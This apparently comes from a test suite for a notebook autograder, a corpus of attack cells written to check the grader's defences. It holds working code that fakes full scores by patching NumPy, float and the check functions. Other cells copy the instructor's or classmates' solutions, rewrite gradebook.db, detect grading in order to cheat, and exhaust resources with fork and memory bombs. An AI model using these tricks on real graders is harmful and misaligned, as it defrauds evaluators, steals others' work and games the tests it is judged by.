"""The code of the attack corpus (:mod:`autograder.attacks`): wrong answers and attack cells.

Everything here is notebook source text, run by a student's kernel, never by the
grader. ``WRONG_BODIES`` are the bodies of wrong implementations that run without
error and score exactly 0; the other constants are the cells that the corpus adds
to a notebook, each opening with a comment that says what it attacks. Cells that
need a value (the token that marks the corpus's processes, a student's name, the
sandbox's memory limit) are :class:`string.Template` texts, filled with
:func:`fill`; ``$`` appears nowhere else in them.

Every process an attack starts has a bounded life, so that running the corpus
through a grader that does not defend against it leaves nothing running for long.
"""

from __future__ import annotations

import textwrap
from string import Template

#: The body of every solution cell of the release, until the student answers.
BLANK_BODY = "    # YOUR CODE HERE\n    raise NotImplementedError()"

#: grade_id of a solution cell -> a wrong body for it. Each returns the right types and
#: shapes, fails every sub-check, public and hidden, whatever the seed (an offset of 0.75
#: is no multiple of the checks' learning rates, no count is -1, no loss is negative).
WRONG_BODIES = {
    "step": """\
    # wrong on purpose: 0 and 1 swapped, so every entry is wrong
    return (np.asarray(z) <= 0).astype(np.float64)""",
    "predict": """\
    # wrong on purpose: 0 and 1 swapped, so every prediction is wrong
    return (X @ w + b <= 0).astype(np.float64)""",
    "perceptron_update": """\
    # wrong on purpose: a fixed step instead of the rule, taken in place (w is changed)
    w += 0.75
    return w, b + 0.75""",
    "train_perceptron": """\
    # wrong on purpose: no training, a fixed shift, and mistake counts no run can have
    return w + 0.75, b + 0.75, [-1] * epochs""",
    "perceptron_loss": """\
    # wrong on purpose: a negative loss and a constant gradient
    return -1.0, np.full(w.shape, 0.75), 0.75""",
}


def fill(template: str, **values: object) -> str:
    """``template`` with its ``$names`` replaced; a missing value is an error."""
    return Template(template).substitute({name: str(value) for name, value in values.items()})


def _block(code: str) -> str:
    return textwrap.dedent(code).strip("\n") + "\n"


# ------------------------------------------------------------------ cheats
TRANSFORMER = _block('''
    # Attacks nbgrader's rule "a test cell without output earns full points": every later
    # cell, test cells included, is replaced by `pass` before IPython runs it.
    def blank_out(lines):
        return ["pass\\n"]


    get_ipython().input_transformers_cleanup.append(blank_out)
''')

ALLCLOSE = _block('''
    # Attacks the comparison of results: NumPy's closeness and equality tests agree with
    # anything, and np.testing's assertions never fail.
    import numpy as np


    def always_close(a, b, *args, **kwargs):
        try:
            shape = np.broadcast(np.asarray(a), np.asarray(b)).shape
        except ValueError:
            shape = np.shape(a)
        return np.ones(shape, dtype=bool)


    def always_true(*args, **kwargs):
        return True


    def never_fails(*args, **kwargs):
        return None


    np.isclose, np.allclose, np.array_equal = always_close, always_true, always_true
    for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal",
                 "assert_almost_equal", "assert_equal"):
        setattr(np.testing, name, never_fails)
''')

FLOAT_PATCH = _block('''
    # Attacks the score a test cell displays: builtins.float becomes a float that, called
    # by a check result computing its score, returns the exercise's full points instead.
    import builtins
    import sys

    import numpy as np

    real_float = builtins.float


    class PassesForFloat(type):
        def __instancecheck__(cls, value):
            return isinstance(value, real_float)

        def __subclasscheck__(cls, other):
            return issubclass(other, real_float)


    class FullPointsFloat(real_float, metaclass=PassesForFloat):
        dtype = np.dtype(np.float64)  # so that NumPy still reads dtype=float as float64

        def __new__(cls, value=0.0):
            caller = sys._getframe(1)
            owner = caller.f_locals.get("self")
            if caller.f_code.co_name == "score" and hasattr(owner, "max_points"):
                return real_float(owner.max_points)
            return real_float(value)


    builtins.float = FullPointsFloat
''')

FORMATTER = _block('''
    # Attacks the score nbgrader reads from a test cell's display: every float is shown as
    # the exercise's full points (the `result` the test cell has just computed knows them).
    def full_points(value, printer, cycle):
        result = get_ipython().user_ns.get("result")
        printer.text(repr(getattr(result, "max_points", value)))


    get_ipython().display_formatter.formatters["text/plain"].for_type(float, full_points)
''')

LIST_EQ = _block('''
    # Attacks comparisons of results: the functions return lists equal to anything (==),
    # which, when a grader turns them into arrays, take the value that the grader expects
    # (read from the grader's own frame), so that np.isclose agrees too.
    import functools
    import sys

    import numpy as np


    class EqualToAnything(list):
        __hash__ = None

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __array__(self, dtype=None, copy=None):
            frame = sys._getframe(1)
            while frame is not None:
                for name in ("want", "expected"):
                    value = frame.f_locals.get(name)
                    if value is not None and not isinstance(value, EqualToAnything):
                        return np.array(value, dtype=dtype)
                frame = frame.f_back
            return np.array(list(self), dtype=dtype)


    def equal_to_anything(function):
        def as_list(value):
            return EqualToAnything(np.atleast_1d(np.asarray(value)).tolist())

        @functools.wraps(function)
        def wrapped(*args, **kwargs):
            result = function(*args, **kwargs)
            if isinstance(result, tuple):
                return tuple(as_list(part) for part in result)
            return as_list(result)

        return wrapped
''')
#: Appended to each solution cell of the list_eq notebook, for each function it defines.
LIST_EQ_WRAP = "{name} = equal_to_anything({name})"

_PATCH_CHECKS_CODE = _block('''
    from autograder import core, perceptron


    def full_points_check(check):
        def fake_check(*functions, hidden=False):
            result = core.CheckResult(check.exercise, check.points)
            result.add("everything is right", passed=True)
            return result

        return fake_check


    for name in list(vars(perceptron)):
        if name.startswith("check_"):
            setattr(perceptron, name, full_points_check(getattr(perceptron, name)))
''')

PATCH_CHECKS = _block('''
    # Attacks the checks themselves: autograder.perceptron's check functions, which the
    # test cells call, are replaced by ones that award full points.
''') + _PATCH_CHECKS_CODE

#: Where the next cells look: every folder above the kernel's working folder and above
#: the autograder package, and a few levels of the usual places for courses.
_SEARCH = _block('''
    import glob
    import json
    import pathlib

    import autograder


    def places(pattern, depth=4):
        starts = [pathlib.Path.cwd(), pathlib.Path(autograder.__file__).resolve().parent]
        folders = [str(folder) for start in starts for folder in (start, *start.parents)]
        for top in ("/work", "/root", "/home", "/srv", "/tmp"):
            folders += [top + "/*" * level for level in range(depth + 1)]
        found = []
        for folder in folders:
            for path in sorted(glob.glob(f"{folder}/{pattern}")):
                if path not in found:
                    found.append(path)
        return [pathlib.Path(path) for path in found]


    def run_solution_cells(path):
        namespace = {"np": np}
        for cell in json.loads(path.read_text())["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), namespace)
        return namespace
''')

#: Appended to each solution cell of the copying notebooks: the stolen function, if any.
STOLEN = '{name} = stolen.get("{name}", {name})'

COPIES_SOLUTIONS = _block('''
    # Attacks the instructor's files: look for the solutions notebook and run its solution
    # cells; the functions defined below are then replaced by the instructor's.
''') + _SEARCH + _block('''
    stolen = {}
    for path in places("solutions/$assignment/$assignment.ipynb"):
        print("FOUND", path)
        try:
            stolen = stolen or run_solution_cells(path)
        except Exception as error:
            print("  could not use it:", error)
''')

COPIES_CLASSMATE = _block('''
    # Attacks the other students' work: look for a classmate's notebook of this assignment
    # (nbgrader's submitted/ and autograded/ folders) and run its solution cells.
''') + _SEARCH + _block('''
    ME = "$student"
    classmates = [path for folder in ("submitted", "autograded")
                  for path in places(f"{folder}/*/$assignment/*.ipynb")
                  if path.parent.parent.name != ME]
    classmates.sort(key=lambda path: path.parent.parent.name != "solution")  # the best first
    stolen = {}
    for path in classmates:
        print("FOUND", path)
        try:
            stolen = stolen or run_solution_cells(path)
        except Exception as error:
            print("  could not use it:", error)
''')

GRADEBOOK_WRITE = _block('''
    # Attacks the gradebook: find nbgrader's gradebook.db and raise every grade in it to
    # full marks plus extra credit. (It writes only into the course it was handed in to,
    # the one whose submitted/ holds this student, never into another course's gradebook.)
''') + _SEARCH + _block('''
    import contextlib
    import sqlite3

    ME = "$student"
    for path in places("gradebook.db"):
        print("FOUND", path)
        if not (path.parent / "submitted" / ME).is_dir():
            print("  not the course this notebook was handed in to: left alone")
            continue
        try:
            with contextlib.closing(sqlite3.connect(path, timeout=5)) as db:
                raised = db.execute(
                    "UPDATE grade SET extra_credit = 10, auto_score = "
                    "(SELECT max_score FROM grade_cell WHERE grade_cell.id = grade.cell_id)"
                ).rowcount
                db.commit()
            print(f"  raised {raised} grades to full marks, plus 10 points of extra credit")
        except sqlite3.Error as error:
            print("  could not write it:", error)
''')

GRADING_MARKERS = _block('''
    # Attacks the secrecy of grading: look for signs of a grader (environment variables,
    # the working folder, the parent process), print them, and cheat when one is seen.
    import os

    for name, value in sorted(os.environ.items()):
        if any(word in name.upper() for word in ("GRADE", "SEED", "SECRET", "HIDDEN")):
            print(f"ENV {name}={value}")
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as file:
            parent = file.read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError:
        parent = ""
    print("CWD", os.getcwd())
    print("PARENT", parent)
    signs = [name for name in ("NBGRADER_EXECUTION", "DLGRADE_SEED") if name in os.environ]
    signs += [word for word in ("autograded", "submitted") if word in os.getcwd()]
    signs += [word for word in ("nbgrader", "dlgrade") if word in parent]
    print("signs of grading:", signs or "none")
    if signs:  # being graded: the checks are replaced, as patch_checks does
''') + textwrap.indent(_PATCH_CHECKS_CODE, "    ")

# -------------------------------------------------------------- robustness
OS_EXIT = _block('''
    # Attacks the grader's kernel: the process ends at once, with no exception and no clean-up.
    import os

    os._exit(1)
''')

SYS_EXIT = _block('''
    # Attacks the grader's control flow: SystemExit (IPython shows it as an error).
    import sys

    sys.exit(3)
''')

SIGINT_LOOP = _block('''
    # Attacks the grader's timeout: the interrupt (SIGINT) is ignored and the cell spins, so
    # only a kill stops it. (It gives up after an hour, so that no grader leaves it forever.)
    import signal
    import time

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    end = time.monotonic() + 3600
    while time.monotonic() < end:
        pass
''')

MEMORY_BOMB = _block('''
    # Attacks the memory limit: allocate and touch blocks of 256 MiB until $target bytes
    # (1.5 times the sandbox's limit) are held; then let them go.
    import numpy as np

    blocks = []
    try:
        while len(blocks) * 256 * 2**20 < $target:
            blocks.append(np.ones(256 * 2**20 // 8))
    finally:
        blocks.clear()
''')

FORK_LOOP = _block('''
    # Attacks the process limit: fork 400 children as fast as possible, ignoring failures.
    # (Each child sleeps 30 s, then leaves with os._exit, running none of the kernel's code.)
    import os
    import time

    children = 0
    for _ in range(400):
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            try:
                time.sleep(30)
            finally:
                os._exit(0)
        children += 1
    print("children forked:", children)
''')

DETACHED = _block('''
    # Attacks the clean-up after grading: a process in a session of its own, which 5 s later
    # writes /tmp/<token>-detached as proof that it outlived grading, then sleeps 55 s more.
    import subprocess
    import sys

    LATER = """
    import pathlib, sys, time
    time.sleep(5)
    pathlib.Path(f"/tmp/{sys.argv[1]}-detached").write_text("outlived grading\\\\n")
    time.sleep(55)
    """
    detached = subprocess.Popen([sys.executable, "-c", LATER, "$token"], start_new_session=True,
                                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL)
''')

FLOOD = _block('''
    # Attacks the output limits: 200 000 lines.
    for number in range(200_000):
        print("flood, line", number)
''')

SURROGATE = _block('''
    # Attacks the output's encoding: a lone surrogate, which UTF-8 cannot encode.
    print("\\ud800")
''')

WARNINGS = _block('''
    # Attacks nbgrader's rule "output on stderr scores 0", with correct code: every function
    # warns each time it runs, and computes a log(0) on the side (a NumPy RuntimeWarning).
    import functools
    import warnings

    import numpy as np


    def warns(function):
        @functools.wraps(function)
        def wrapped(*args, **kwargs):
            warnings.warn(f"{function.__name__} was called", UserWarning, stacklevel=2)
            with np.errstate(divide="warn"):
                np.log(np.zeros(1))
            return function(*args, **kwargs)

        return wrapped
''')
#: Appended to each solution cell of the warnings notebook, for each function it defines.
WARNINGS_WRAP = "{name} = warns({name})"
